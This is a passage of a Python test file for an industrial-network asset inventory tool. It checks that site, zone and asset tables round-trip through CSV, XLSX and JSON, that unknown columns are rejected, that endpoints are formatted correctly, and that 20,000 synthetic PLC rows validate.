        alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp", "Cf")), min_size=1, max_size=40
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(text_values, text_values, text_values),
        min_size=1,
        max_size=5,
        unique_by=lambda t: t[0].casefold(),
    ),
    st.sampled_from(["csv", "xlsx", "json"]),
)
def test_any_text_round_trips_through_every_format(rows, fmt):
    sites = [
        {"name": name, "location": location, "description": description}
        for name, location, description in rows
    ]
    data = write_table("sites", sites, fmt)
    plan = validate_rows("sites", read_table(data, f"s.{fmt}"), EMPTY)
    assert [(site.name, site.location, site.description) for site in plan.records] == rows


def test_write_table_refuses_columns_outside_the_contract():
    with pytest.raises(ValueError, match="colour"):
        write_table("zones", [{"name": "Z", "colour": "red"}], "csv")
    with pytest.raises(ValueError, match="format"):
        write_table("zones", [], "xml")


def test_write_table_formats_vectors_lists_and_endpoints():
    rows = [
        ZoneRecord(0, "Z", (2, 2, 1, 3, 1, 1, 2), "Parent").as_row(),
        ZoneRecord(0, "Y", (3,) * 7).as_row(),
    ]
    text = write_table("zones", rows, "csv").decode("utf-8-sig")
    # every cell quoted: a spreadsheet that splits on another separator still sees one cell
    assert text.splitlines() == [
        '"name","kind","sl_t","sl_t_reason","parent","description"',
        '"Z","","2,2,1,3,1,1,2","","Parent",""',
        '"Y","","3","","",""',
    ]
    asset = AssetRecord(0, "A", endpoints=(Endpoint("modbus-tcp", "10.0.0.1", 502, "", (("unit", 3),)),))
    exported = json.loads(write_table("assets", [asset.as_row()], "json"))
    assert exported[0]["endpoints"] == "modbus+tcp://10.0.0.1:502?unit=3"
    assert exported[0]["zone"] == ""


def test_empty_export_imports_as_an_empty_plan():
    for fmt in ("csv", "xlsx", "json"):
        data = write_table("sites", [], fmt)
        table = read_table(data, f"e.{fmt}")
        assert validate_rows("sites", table, EMPTY).records == ()


def test_site_record_as_row_holds_every_contract_column():
    assert tuple(SiteRecord(0, "S").as_row()) == COLUMNS["sites"].all


# ---------------------------------------------------------------------------------------------------- speed


def test_twenty_thousand_asset_rows_validate():
    """Speed is measured by bench/asset_import.py (tests are not timed: they must not flake)."""
    rows = [
        {
            "name": f"PLC-{i}",
            "zone": "Control",
            "type": "PLC",
            "vendor": "Schneider",
            "model": "M580",
            "firmware": "3.20",
            "serial": f"SN{i:08d}",
            "criticality": "high",
            "ip": f"10.{i // 65536}.{i // 256 % 256}.{i % 256}",
            "mac": f"00:80:f4:{i // 65536:02x}:{i // 256 % 256:02x}:{i % 256:02x}",
            "endpoints": f"modbus+tcp://10.0.{i // 256 % 256}.{i % 256}:502?unit=1;opc.tcp://plc-{i}.plant.local:4840",
            "profile": "",
            "description": "Pump station controller",
        }
        for i in range(20_000)
    ]
    plan = validate_rows("assets", rows, CONTEXT)
    assert len(plan.records) == 20_000
    assert plan.records[-1].name == "PLC-19999" and len(plan.records[-1].endpoints) == 2
